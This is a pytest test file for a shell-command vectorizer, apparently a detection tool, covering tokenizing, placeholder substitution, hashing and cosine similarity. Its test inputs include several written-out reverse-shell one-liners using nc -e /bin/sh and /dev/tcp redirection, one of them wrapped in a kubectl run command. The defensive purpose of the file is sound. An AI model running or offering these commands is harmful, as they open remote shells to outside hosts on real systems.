import math

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cmdsift.vectorize import (
    FeatureVector,
    VectorizerConfig,
    ngrams,
    substitute_placeholders,
    template_key,
    to_csr,
    tokenize,
    vectorize,
)


class TestTokenize:
    def test_netcat_example(self):
        assert tokenize("nc 10.1.1.1 80 -e /bin/sh") == [
            "nc", "10.1.1.1", "80", "-", "e", "/", "bin", "/", "sh",
        ]

    def test_empty(self):
        assert tokenize("") == []

    def test_redirection_run_is_single_token(self):
        tokens = tokenize("sh -i >& /dev/tcp/10.10.10.5/8080 0>&1")
        assert ">&" in tokens
        assert tokens.count(">&") == 2
        assert "10.10.10.5" in tokens
        assert "8080" in tokens

    def test_letters_lowercased_punctuation_kept(self):
        assert tokenize("EXEC:'/bin/SH'") == ["exec", ":'/", "bin", "/", "sh", "'"]

    def test_underscore_is_word_char(self):
        assert tokenize("socket_create(x)") == ["socket_create", "(", "x", ")"]

    def test_ipv6_kept_whole(self):
        assert tokenize("ping fe80::1") == ["ping", "fe80::1"]

    def test_decimal_real_kept_whole(self):
        assert tokenize("sleep 1.5") == ["sleep", "1.5"]


class TestSubstitute:
    def test_ip_and_port(self):
        tokens = tokenize("nc 10.1.1.1 80 -e /bin/sh")
        assert substitute_placeholders(tokens) == [
            "nc", "<IP>", "<NUM>", "-", "e", "/", "bin", "/", "sh",
        ]

    def test_no_numeric_tokens_unchanged(self):
        assert substitute_placeholders(["sh"]) == ["sh"]

    def test_hex_and_decimal_become_num(self):
        assert substitute_placeholders(["0x7f", "8443"]) == ["<NUM>", "<NUM>"]

    def test_ipv6_becomes_ip(self):
        assert substitute_placeholders(["fe80::1", "::1"]) == ["<IP>", "<IP>"]

    def test_words_with_digits_survive(self):
        assert substitute_placeholders(["python3", "2fa"]) == ["python3", "2fa"]


class TestVectorize:
    def test_empty_command_zero_vector(self, desk_vec):
        fv = vectorize(desk_vec, "")
        assert fv.indices == ()
        assert fv.norm == 0.0

    def test_placeholder_collapse_identical_vectors(self, desk_vec):
        a = vectorize(desk_vec, "nc 10.1.1.1 80")
        b = vectorize(desk_vec, "nc 192.168.0.9 443")
        assert a == b

    def test_l2_norm_is_one(self, desk_vec):
        fv = vectorize(desk_vec, "nc 10.1.1.1 80 -e /bin/sh")
        assert abs(fv.norm - 1.0) < 1e-9

    def test_normalize_none_keeps_counts(self):
        config = VectorizerConfig(dimensions=2**12, normalize="none")
        fv = vectorize(config, "sh sh sh")
        assert max(fv.values) >= 3.0

    def test_determinism_same_process(self, desk_vec):
        cmd = "sh -i >& /dev/tcp/10.10.10.5/8080 0>&1"
        assert vectorize(desk_vec, cmd) == vectorize(desk_vec, cmd)

    def test_shared_suffix_gives_positive_cosine(self, desk_vec):
        long_cmd = (
            "kubectl run --restart=Never --rm=true -i --image "
            "marketplace.gcr.io/google/ubuntu2404:latest ktd-test-2025-05-01 -- "
            "bash -c cp /bin/echo /tmp/sh; /tmp/sh >& /dev/tcp/10.0.0.1/53 0>&1"
        )
        short_cmd = "bash -c 'sh >& /dev/tcp/10.9.9.9/53 0>&1'"
        a = vectorize(desk_vec, long_cmd).to_dense()
        b = vectorize(desk_vec, short_cmd).to_dense()
        cosine = float(a @ b)
        assert cosine > 0.0

    def test_locality_shared_run_shares_coordinates(self):
        config = VectorizerConfig(dimensions=2**14, ngram_min=1, ngram_max=3, normalize="none")
        shared = "sh >& /dev/tcp/10.0.0.1/53 0>&1"
        a = vectorize(config, "alpha beta " + shared)
        b = vectorize(config, "gamma " + shared)
        shared_tokens = substitute_placeholders(tokenize(shared))
        k = len(shared_tokens)
        expected_min = k - config.ngram_max + 1
        common = set(a.indices) & set(b.indices)
        assert len(common) >= expected_min

    def test_dimension_validation(self):
        with pytest.raises(ValueError):
            VectorizerConfig(dimensions=1000)  # not a power of two
        with pytest.raises(ValueError):
            VectorizerConfig(dimensions=2**9)  # below floor

    @given(st.text(max_size=60))
    @settings(max_examples=150, deadline=None)
    def test_vector_entries_finite_nonneg_pre_norm(self, text):
        config = VectorizerConfig(dimensions=2**10, normalize="none")
        fv = vectorize(config, text)
        assert all(v > 0 and math.isfinite(v) for v in fv.values)
        if fv.values:
            l2 = vectorize(VectorizerConfig(dimensions=2**10), text)
            assert abs(l2.norm - 1.0) < 1e-9


class TestHelpers:
    def test_ngrams(self):
        grams = list(ngrams(["a", "b", "c"], 1, 2))
        assert ("a",) in grams and ("a", "b") in grams and ("b", "c") in grams
        assert ("a", "b", "c") not in grams

    def test_to_csr_matches_dense(self, desk_vec):
        cmds = ["nc 1.2.3.4 80 -e /bin/sh", "ls -la", ""]
        vectors = [vectorize(desk_vec, c) for c in cmds]
        mat = to_csr(vectors)
        assert mat.shape == (3, desk_vec.dimensions)
        for row, fv in zip(mat.toarray(), vectors):
            np.testing.assert_allclose(row, fv.to_dense())

    def test_template_key_collapses_literals(self):
        a = template_key("nc 10.1.1.1 80 -e /bin/sh")
        b = template_key("nc 172.16.3.2 9001 -e /bin/sh")
        assert a == b
        assert template_key("ls -la") != a
